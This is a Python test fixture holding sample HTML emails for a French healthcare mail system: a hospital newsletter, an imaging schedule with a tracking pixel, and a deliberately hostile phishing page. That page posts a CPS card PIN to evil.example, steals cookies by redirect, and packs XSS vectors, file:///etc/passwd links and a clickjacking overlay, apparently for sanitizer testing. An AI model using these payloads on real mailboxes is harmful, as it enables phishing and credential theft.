"""HTML bodies of the sample mail: a newsletter, a table, and a page that tries everything it should not."""

from __future__ import annotations

NEWSLETTER_TEXT = """Lettre ville-hôpital n° 42
Filière gériatrique du CH de Montfleury

Équipe mobile : nouveaux horaires
L'équipe mobile se déplace désormais le mercredi matin dans les EHPAD du secteur.

Consultations du mois
- Lundi : mémoire, Dr BENALI, 14 h à 17 h
- Mardi : hôpital de jour, Dr FABRE, 9 h à 16 h
- Jeudi : plaies et cicatrisation, Mme ROUX, 9 h à 12 h

À retenir
Adressez vos demandes par MSSanté, avec la liste des traitements en cours.
"""

NEWSLETTER = """<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><title>Lettre ville-hôpital</title>
<style>
  body { font-family: Arial, sans-serif; color: #222; background: #f4f6f4; }
  .sheet { max-width: 600px; margin: 0 auto; background: #fff; border: 1px solid #d7ded7; }
  .head { background: #e8f1e0; padding: 14px 20px; }
  h1 { font-size: 20px; margin: 0; color: #33691e; } h2 { font-size: 16px; color: #33691e; }
  td, th { border: 1px solid #c5d1bd; padding: 6px 10px; text-align: left; }
</style></head>
<body><div class="sheet">
<div class="head"><table role="presentation"><tr>
  <td style="border:0">
  <img src="cid:logo@ch-montfleury.mss.example" alt="Feuille de tilleul" width="64" height="64"></td>
  <td style="border:0"><h1>Lettre ville-hôpital n° 42</h1><p>Filière gériatrique du CH de Montfleury</p></td>
</tr></table></div>
<div style="padding: 6px 20px 20px">
<h2>Équipe mobile&nbsp;: nouveaux horaires</h2>
<p>L’équipe mobile se déplace désormais <strong>le mercredi matin</strong> dans les EHPAD du secteur.</p>
<h2>Consultations du mois</h2>
<table cellspacing="0"><thead><tr><th>Jour</th><th>Consultation</th><th>Médecin</th><th>Horaires</th></tr></thead>
<tbody>
<tr><td>Lundi</td><td>Mémoire</td><td>Dr BENALI</td><td>14 h à 17 h</td></tr>
<tr><td>Mardi</td><td>Hôpital de jour</td><td>Dr FABRE</td><td>9 h à 16 h</td></tr>
<tr><td>Jeudi</td><td>Plaies et cicatrisation</td><td>Mme ROUX</td><td>9 h à 12 h</td></tr>
</tbody></table>
<h2>À retenir</h2>
<ul><li>Adressez vos demandes <em>par MSSanté</em>, avec la liste des traitements en cours.</li>
<li>Le formulaire est sur <a href="https://www.ch-montfleury.example/filiere">le site de l’hôpital</a>.</li></ul>
</div></div></body></html>
"""

PLANNING_TEXT = """Bonjour,

Voici les créneaux réservés à vos résidents la semaine prochaine :
- mardi 8 h 30 (thorax)
- jeudi 10 h 15 (membres)
- vendredi 14 h (échographie)

Cordialement,
Centre d'imagerie de la Lys
"""

PLANNING = """<html><body style="font-family:Calibri,sans-serif;font-size:11pt">
<p>Bonjour,</p>
<p>Voici les créneaux réservés à vos résidents la semaine prochaine&nbsp;:</p>
<table border="1" cellpadding="4" style="border-collapse:collapse">
<tr bgcolor="#dde8f3"><th>Jour</th><th>Heure</th><th>Examen</th></tr>
<tr><td>Mardi</td><td>8 h 30</td><td>Thorax</td></tr>
<tr><td>Jeudi</td><td>10 h 15</td><td>Membres</td></tr>
<tr><td>Vendredi</td><td>14 h</td><td style="color:#b00020"><b>Échographie</b> (à jeun)</td></tr></table>
<p>Cordialement,<br>Centre d’imagerie de la Lys</p>
<img src="http://stats.imagerie-lys.example/o.gif?id=8841" width="1" height="1" alt="">
</body></html>
"""

HOSTILE_TEXT = """Votre boîte MSSanté sera suspendue sous 24 h.
Confirmez votre code CPS sur la page de sécurité.
"""

HOSTILE = """<html><head>
<meta http-equiv="refresh" content="0;url=http://evil.example/steal">
<base href="http://evil.example/">
<link rel="stylesheet" href="http://evil.example/style.css">
<style>@import url("http://evil.example/import.css");
body { background-image: url('http://evil.example/bg.png'); }
.overlay { position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 9999; }
@font-face { font-family: x; src: url(http://evil.example/font.woff); }
</style>
<script>document.location = "http://evil.example/?c=" + document.cookie;</script>
</head>
<body onload="alert('chargement')" background="http://evil.example/body.gif">
<h1>Votre boîte MSSanté sera suspendue sous 24 h</h1>
<p style="background:url(http://evil.example/p.png)">Confirmez votre identité&nbsp;:</p>
<form action="http://evil.example/collect" method="post">
<label>Code de votre carte CPS <input type="password" name="pin"></label>
<button type="submit">Confirmer</button></form>
<p><a href="http://evil.example/login" title="https://mssante.fr">https://mssante.fr/securite</a></p>
<p><a href="javascript:alert(1)">Annuler la suspension</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Ouvrir le justificatif</a>
<a href="file:///etc/passwd">Journal</a> <a href="mssante:envoyer?document=/etc/passwd">Répondre</a></p>
<img src="http://evil.example/pixel.gif?user=secretariat" width="1" height="1" alt="">
<img src="http://evil.example/banner.png" srcset="http://evil.example/banner2x.png 2x" alt="Bannière">
<img src="x" onerror="fetch('http://evil.example/err')">
<img src="file://evil.example/share/x.png" alt="">
<picture><source srcset="http://evil.example/s.webp"><img src="cid:absent" alt=""></picture>
<iframe src="http://evil.example/frame"></iframe>
<object data="http://evil.example/o.swf"></object><embed src="http://evil.example/e.swf">
<video src="http://evil.example/v.mp4" poster="http://evil.example/poster.png" autoplay></video>
<audio src="http://evil.example/a.mp3" autoplay></audio>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(2)"><script>alert(3)</script>
<image href="http://evil.example/svg.png"/><use href="http://evil.example/sprite.svg#x"/>
<foreignObject><body><script>alert(4)</script></body></foreignObject></svg>
<math><mtext><table>
<mglyph><style><!--</style><img title="--&gt;&lt;img src=1 "
"onerror=alert(5)&gt;"></mglyph></table></mtext></math>
<div class="overlay"><a href="http://evil.example/click">&nbsp;</a></div>
<div style="width: expression(alert(6)); behavior: url(http://evil.example/x.htc)">Service Sécurité</div>
<p style="font-size:0;color:#fff">texte caché pour les filtres</p>
</body></html>
"""
